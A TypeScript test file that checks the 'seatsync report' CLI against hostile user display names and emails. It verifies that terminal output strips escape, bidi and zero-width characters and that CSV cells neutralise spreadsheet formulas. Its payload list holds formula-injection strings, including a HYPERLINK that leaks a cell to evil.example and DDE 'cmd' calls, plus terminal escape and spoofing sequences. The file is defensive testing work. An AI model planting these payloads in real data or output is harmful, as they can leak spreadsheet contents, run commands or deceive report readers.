/**
 * Hostile display names and emails, as an organisation's users can set them, through the real `seatsync
 * report` command: the table reaches the terminal without one escape, control, bidirectional or zero-width
 * character, and the CSV a finance person opens holds each formula as text (OWASP: `'` prefix, quoted).
 */
import { SqlClient } from "@effect/sql"
import { afterAll, beforeAll, describe, expect, it } from "@effect/vitest"
import { Connections, Database } from "@seatsync/store"
import { Effect, Exit, Option, Scope } from "effect"
import { runCli, tempDataDir } from "./support.js"

const ESC = "\u001b"
/** What the users call themselves: each a way to attack the reader of a report. */
const hostileNames = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your refund")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C notepad'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  `${ESC}]0;you have been pwned\u0007Eve ${ESC}[2J${ESC}[31mRed`,
  `${ESC}]8;;https://evil.example${ESC}\\Mallory${ESC}]8;;${ESC}\\`,
  "\u202eexe.lanoisivorp",
  "ad\u200bmin\u200d \ufeffroot"
] as const

// biome-ignore lint/suspicious/noControlCharactersInRegex: the characters a terminal acts on are the point
const unsafe = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]/

/**
 * Every cell's value of a CSV, by RFC 4180: rows end at \r\n outside quotes, cells at commas outside quotes,
 * a quoted cell's "" is one quote. Values are kept as they are (no trimming), so a leading tab or \r counts.
 */
const csvCells = (text: string): ReadonlyArray<string> => {
  const cells: Array<string> = []
  let cell = ""
  let quoted = false
  for (let at = 0; at < text.length; at++) {
    const char = text[at]
    if (quoted) {
      if (char === '"' && text[at + 1] === '"') {
        cell += '"'
        at += 1
      } else if (char === '"') quoted = false
      else cell += char
    } else if (char === '"') quoted = true
    else if (char === ",") {
      cells.push(cell)
      cell = ""
    } else if (char === "\r" && text[at + 1] === "\n") {
      cells.push(cell)
      cell = ""
      at += 1
    } else cell += char
  }
  if (cell !== "") cells.push(cell)
  return cells
}

describe("seatsync report with hostile display names", () => {
  const scope = Effect.runSync(Scope.make())
  let env: Record<string, string> = {}
  const report = (...args: ReadonlyArray<string>) =>
    Effect.runPromise(runCli(["report", ...args], env)).then((result) => {
      expect(result.stderr).not.toContain("seatsync:")
      expect(result.code).toBe(0)
      return result.stdout
    })

  beforeAll(async () => {
    const dataDir = await Effect.runPromise(Scope.extend(tempDataDir, scope))
    env = { SEATSYNC_DATA_DIR: dataDir }
    expect((await Effect.runPromise(runCli(["sync", "--demo", "--users", "120"], env))).code).toBe(0)
    // The reclaim report lists seat holders by email, or by name when there is none: the hostile users
    // are reclaimable seat holders, half with a hostile name and no email, half with a hostile email.
    await Effect.runPromise(
      Effect.gen(function* () {
        const sql = yield* SqlClient.SqlClient
        const demo = Option.getOrThrow(yield* Connections.findByName("demo"))
        const holders = yield* sql<{ readonly accountId: string }>`
          SELECT DISTINCT account_id AS "accountId" FROM seatsync.v_reclaim_candidates
          WHERE connection_id = ${demo.id} ORDER BY account_id LIMIT ${hostileNames.length}`
        expect(holders).toHaveLength(hostileNames.length)
        for (const [index, { accountId }] of holders.entries()) {
          const hostile = hostileNames[index] ?? ""
          yield* index % 2 === 0
            ? sql`UPDATE seatsync.org_user SET name = ${hostile}, email = NULL
                  WHERE connection_id = ${demo.id} AND account_id = ${accountId}`
            : sql`UPDATE seatsync.org_user SET email = ${hostile}
                  WHERE connection_id = ${demo.id} AND account_id = ${accountId}`
        }
      }).pipe(Effect.provide(Database.layerEmbedded({ mode: "persistent", dataDir })), Effect.orDie)
    )
  }, 180_000)

  afterAll(() => Effect.runPromise(Scope.close(scope, Exit.void)))

  it("the table: no escape sequence, control, bidi or zero-width character; the visible names remain", async () => {
    const table = await report("reclaim", "--demo")
    expect(table).not.toContain(ESC)
    expect(unsafe.test(table)).toBe(false)
    // Cut to the user column's width, but readable.
    expect(table).toContain("Eve Red")
    expect(table).toContain("exe.lanoisivorp")
    expect(table).toContain("admin root")
    expect(table).toContain("=HYPERLINK(")
  })

  it("the CSV: every hostile cell starts with ' inside quotes, nothing a spreadsheet would evaluate", async () => {
    const csv = await report("reclaim", "--demo", "--format", "csv")
    for (const hostile of hostileNames.slice(0, 4)) {
      expect(csv).toContain(`"'${hostile.replaceAll('"', '""')}"`)
    }
    // No cell's value begins with a character a spreadsheet acts on (an empty last cell is no formula).
    const cells = csvCells(csv)
    expect(cells.length).toBeGreaterThan(hostileNames.length)
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
  })
})
